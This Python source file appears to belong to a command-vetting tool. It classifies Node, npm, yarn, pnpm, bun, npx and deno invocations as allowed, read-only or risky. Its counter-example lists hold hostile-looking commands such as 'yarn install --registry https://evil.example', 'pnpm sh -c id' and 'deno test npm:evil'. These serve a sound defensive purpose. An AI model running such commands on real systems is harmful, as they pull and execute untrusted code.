    while "@" not in name[1:] and below(folder, analyst.project) is not None:
        if analyst.exists(f"{folder}/node_modules/{name}/package.json"):
            texts = ((lock, analyst.read_file(f"{folder}/{lock}", _MAX_LOCK) or "") for lock in _LOCKED)
            return next((lock for lock, text in texts if _LOCKED[lock].format(name) in text), "")
        folder = folder.rpartition("/")[0]
    return ""


_MAX_LOCK = 4 << 20
# How each says that it pins a package.
_LOCKED = {
    "package-lock.json": '"node_modules/{}"',
    "yarn.lock": "{}@",
    "pnpm-lock.yaml": "{}@",
    "bun.lock": '"{}": [',
}
_NPX_INERT = (
    "--no-install",
    "--no",
    "--offline",
    "--silent",
    "-s",
    "--quiet",
    "-q",
    "--",
    "-y",
    "--yes",
    "--bun",
    "--prefer-offline",
)

# -- node and deno -----------------------------------------------------------------------------------------------------

_NODE = Tool(
    "node",
    Kind.CODE,
    "the Node interpreter",
    options="""
        flag    --no-warnings --trace-warnings --trace-deprecation --no-deprecation
        flag    --enable-source-maps --harmony --expose-gc --throw-deprecation
        flag    --experimental-strip-types --experimental-vm-modules --abort-on-uncaught-exception
        flag    --experimental-json-modules --experimental-test-coverage
        flag    --no-experimental-strip-types
        value   --max-old-space-size --stack-size --test-name-pattern --test-reporter
        value   --test-concurrency --test-timeout --unhandled-rejections
    """,
    operands=(INERT, ...),
    reading=Reading(stops_at_operand=True),
)


_EVALUATES = ("-e", "--eval", "-p", "--print", "-pe")


def node(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    words = call.words
    if len(words) == 2 and words[1].value in ("--version", "-v", "--help", "-h", "--v8-options", "--completion-bash"):
        return Outcome(read_action(("node", "--version"), "shows the version"))
    if len(words) == 3 and words[1].value in ("--check", "-c") and words[2].value is not None:
        action = read_action(("node", "--check"), "checks the syntax", rule="node --check")
        return Outcome(action, tuple(place_facts(tool, call, analyst)))
    if shown := _shows_data(call, analyst):
        return shown
    testing = any(w.value == "--test" for w in words[1:])
    dropped = ("--test", "--watch") if testing else ()
    given = replace(call, words=tuple(w for w in words if w.value not in dropped))
    parsed = parse(_NODE, given.words[1:])
    facts = (*facts_of(_NODE, given, parsed, analyst), *_reporters(parsed, call))
    if testing:
        action = Action(
            ("node", "--test"),
            Kind.BUILD,
            rule="node --test",
            allowed=True,
            profile="node-dev",
            description="runs the project's tests",
        )
        return Outcome(action, (*facts, *place_facts(tool, call, analyst)))
    script = _script_file(parsed, words)
    if script is not None:
        return project_file(_NODE, call, analyst, script, facts, tests="node-dev")
    return Outcome(
        Action(("node", "-"), Kind.INLINE, rule="node", description="runs JavaScript"),
        (*facts, unknown("inline code", "JavaScript in the command or from its input", call)),
    )


# Data of a JSON file, or of node itself, and what it may stand in.
_DATA = re.compile(
    r"(?:require\((?P<quote>['\"])(?P<file>[\w.@/-]+\.json)(?P=quote)\)|process\.(?:versions?|platform|arch)\b)"
    r"(?:\??\.\w+|\[['\"][\w.@/: -]+['\"]\])*"
)
_AROUND = re.compile(r"(?:JSON\.stringify\((?P<data>[^,]*)(?:,\s*null,\s*\d)?\)|Object\.keys\((?P<keys>.*)\))")
_LOGGED = re.compile(r"console\.log\((.*)\)")


def _shows_data(call: Call, analyst: Analyst) -> Outcome | None:
    """`node -p "require('./package.json').version"`. A file of this ending that is a link to another is code."""
    words = [w.value or "" for w in call.words]
    found = _data_in(words[2], printed="p" in words[1]) if len(words) == 3 and words[1] in _EVALUATES else None
    if found is None:
        return None
    file = found["file"] or ""
    name = file if not file or file.startswith((".", "/")) else f"node_modules/{file}"
    if file and not (analyst.path(name, call.cwd) or "").endswith(".json"):
        return None
    action = read_action(("node", "on-data"), "shows data", rule="node on-data")
    return Outcome(action, tuple(read_fact(Word(name, name), call, analyst, "node")) if file else ())


def _data_in(code: str, *, printed: bool) -> re.Match[str] | None:
    text = code.strip().removesuffix(";").strip()
    if not printed:
        logged = _LOGGED.fullmatch(text)
        text = logged[1].strip() if logged is not None else ""
    around = _AROUND.fullmatch(text)
    return _DATA.fullmatch(text if around is None else (around["data"] or around["keys"] or "").strip())


def _script_file(parsed: Parsed, words: tuple[Word, ...]) -> Word | None:
    """The file that is run; None where the code stands in the command or comes from its input."""
    first = parsed.operands[0] if parsed.operands else None
    takes_text = any(w.value in _EVALUATES for w in itertools.takewhile(lambda w: w is not first, words))
    return None if first is None or takes_text or _is_input(first.value or "") else first


def _is_input(text: str) -> bool:
    return text == "-" or text.startswith(("/dev/", "/proc/"))


def _reporters(parsed: Parsed, call: Call) -> list[Fact]:
    odd = [w for w in parsed.values("--test-reporter") if w.value not in ("spec", "tap", "dot", "junit", "lcov")]
    return [unknown("option", f"the reporter `{w.text}` is code", call, w.text) for w in odd]


_DENO_OPTIONS = """
    flag    -q,--quiet --no-config --no-lock --watch --json
    asks    -c,--config: uses other settings
    asks    -A,--allow-all --allow-run --allow-ffi --allow-env: gives rights to the code
    asks    --allow-net --allow-read --allow-write --allow-sys: gives rights to the code
    asks    --import-map --preload --cert --location --lock -r,--reload: loads other code
    asks    --inspect --inspect-brk --inspect-wait: starts a debugger
"""


def _deno(name: str, description: str, *, kind: Kind = Kind.BUILD, options: str = "", **more: Any) -> Tool:
    more.setdefault("operands", (INERT, ...))
    return Tool(
        f"deno {name}",
        kind,
        description,
        key_words=2,
        special=more.pop("special", _deno_modules),
        options=_DENO_OPTIONS + options,
        **more,
    )


def _deno_modules(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    """A module may be fetched: `npm:x`, `jsr:@a/x`, `data:…`."""
    outcome = runner(tool, call, analyst)
    odd = [w for w in parse(tool, call.words[1:]).operands if ":" in (w.value or w.prefix)]
    facts = (unknown("package", f"`{w.text}` is fetched from elsewhere", call, w.text) for w in odd)
    return replace(outcome, facts=(*outcome.facts, *facts))


def _deno_task(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    outcome = runner(tool, call, analyst)
    words = " ".join(w.shown for w in call.words[1:])  # the task, and what it is given
    if any(is_risky_script(w.value or "deploy") for w in parse(tool, call.words[1:]).operands[:1]):
        return replace(outcome, action=replace(outcome.action, allowed=False, profile="", target=words))
    outcome = replace(outcome, action=replace(outcome.action, target=words))
    return replace(outcome, facts=(*outcome.facts, *script_arguments(call.words[2:], call, analyst, "deno task")))


TOOLS: dict[str, Tool] = {
    "npm": replace(_NPM, manual="npm 11.21.1"),
    "yarn": Tool(
        "yarn",
        Kind.BUILD,
        "packages and scripts of Node",
        options="""
            flag    -v,--version -h,--help -s,--silent --verbose --offline --json
            asks    --cwd: works on another package
            asks    --use-yarnrc: uses other settings
        """,
        key_words=3,
        manual="yarn 4.18.1",
        examples=(
            "yarn test",
            "yarn build",
            "yarn workspace web build",
            "yarn why lodash",
            "yarn --version",
            "yarn tsc --noEmit",
            "yarn install --immutable",
            "yarn workspaces foreach -A run build",
        ),
        counter_examples=(
            "yarn dlx evil",
            "yarn --cwd /tmp/evilpkg test",
            "yarn add x",
            "yarn run --inspect-brk build",
            "yarn touch x",
            "yarn ts-node x.ts",
            "yarn run env",
            "yarn install --registry https://evil.example",
            "yarn eslint -c /tmp/x .",
            "yarn config set yarnPath /tmp/evil.cjs",
            "yarn exec touch x",
            "yarn node -e x",
            "yarn deploy",
        ),
        special=yarn,
    ),
    "pnpm": Tool(
        "pnpm",
        Kind.BUILD,
        "packages and scripts of Node",
        options="""
            flag    -v,--version -h,--help -s,--silent -r,--recursive -w,--workspace-root --parallel
            flag    --stream --if-present --no-bail --color --no-color
            value   -F,--filter --workspace-concurrency --loglevel --reporter
            asks    -C --dir --prefix: works on another package
            asks    -g,--global: works on the whole machine
            asks    -c --shell-mode: runs a shell
        """,
        key_words=3,
        manual="pnpm 12.18.0",
        examples=(
            "pnpm test",
            "pnpm lint",
            "pnpm --filter @app/web build",
            "pnpm run typecheck",
            "pnpm --version",
            "pnpm why x",
            "pnpm exec tsc --noEmit",
            "pnpm install --frozen-lockfile",
            "pnpm eslint .",
        ),
        counter_examples=(
            "pnpm -C /tmp/evilpkg test",
            "pnpm dlx cowsay",
            "pnpm add x",
            "pnpm sh -c id",
            "pnpm rm x",
            "pnpm exec touch x",
            "pnpm env use --global 20",
            "pnpm touch x",
            "pnpm view git+https://evil.example/x",
            "pnpm run -w deploy test",
            "pnpm run --script-shell=./e.sh test",
            "pnpm run '/.*/'",
        ),
        special=pnpm,
    ),
    "bun": Tool(
        "bun",
        Kind.BUILD,
        "packages, scripts and tests",
        special=bun,
        key_words=3,
        manual="bun 1.4.4",
        subcommands={"test": _BUN_TEST},
    ),
    **{
        name: Tool(
            name,
            Kind.WRAPPER,
            "runs a program of a package",
            special=npx,
            key_words=2,
            manual=manual,
            examples=(f"{name} tsc --noEmit", f"{name} eslint .", f"{name} vitest run"),
            counter_examples=(
                f"{name} -y some-package",
                f"{name} cowsay",
                f"{name} eslint -f ./evil.js .",
                f"{name} ng deploy",
                f"{name} -p evil tsc",
                f"{name} eslint -c /tmp/x .",
                f"{name} jest --globalSetup /tmp/x",
            ),
        )
        for name, manual in (("npx", "npx 11.19.1"), ("bunx", "bunx 1.4.4"), ("pnpx", "pnpm 12.18.0"))
    },
    "node": Tool(
        "node",
        Kind.CODE,
        "the Node interpreter",
        manual="node 20.20.2",
        special=node,
        key_words=2,
        examples=("node --version", "node --check src/x.js", "node --test tests", "node --test --watch"),
        counter_examples=(
            "node -e 'x()'",
            "node -pe x",
            "node --print x",
            "node --import /tmp/x.mjs -e 1",
            "node --test /tmp/evil.js",
            "node",
            "node --test --test-reporter=./evil.js",
            "node --experimental-loader=/tmp/x.mjs x.js",
            "node --check /etc/x",
            "node x.js",
            "node --watch x.js",
        ),
    ),
    "nodejs": Tool("node", Kind.CODE, "the Node interpreter", manual="node 20.20.2", special=node, key_words=2),
    "deno": Tool(
        "deno",
        Kind.CODE,
        "the Deno interpreter",
        options="flag -V,--version -h,--help",
        key_words=2,
        manual="deno 2.9.6",
        special=starts_interpreter,
        counter_examples=("deno", "echo x | deno", "deno eval x", "deno run x.ts", "deno install x"),
        subcommands={
            "fmt": _deno(
                "fmt",
                "formats files",
                kind=Kind.EDIT,
                options="""
                    flag    --check
                    value   --ext --ignore --line-width --indent-width
                """,
                examples=("deno fmt --check",),
                counter_examples=("deno fmt /tmp/x",),
            ),
            "lint": _deno(
                "lint",
                "lints files",
                kind=Kind.BUILD,
                profile="node-dev",
                options="""
                    flag    --fix --compact
                    value   --rules-tags --rules-include --rules-exclude --ignore
                """,
                examples=("deno lint",),
            ),
            "check": _deno("check", "checks types", kind=Kind.BUILD, profile="node-dev", options="flag --all --doc"),
            "test": _deno(
                "test",
                "runs the project's tests",
                profile="node-dev",
                options="""
                    flag    --no-check --parallel --doc --no-run --coverage
                    value   --filter
                    maybe   --fail-fast
                """,
                examples=("deno test",),
                counter_examples=(
                    "deno test -A",
                    "deno test --allow-run",
                    "deno test npm:evil",
                    "deno test jsr:@evil/x",
                ),
            ),
            "task": _deno(
                "task",
                "runs a task of the project",
                profile="node-dev",
                special=_deno_task,
                examples=("deno task build",),
                counter_examples=("deno task deploy", "deno task --eval 'x'"),
            ),
        },
    ),
}
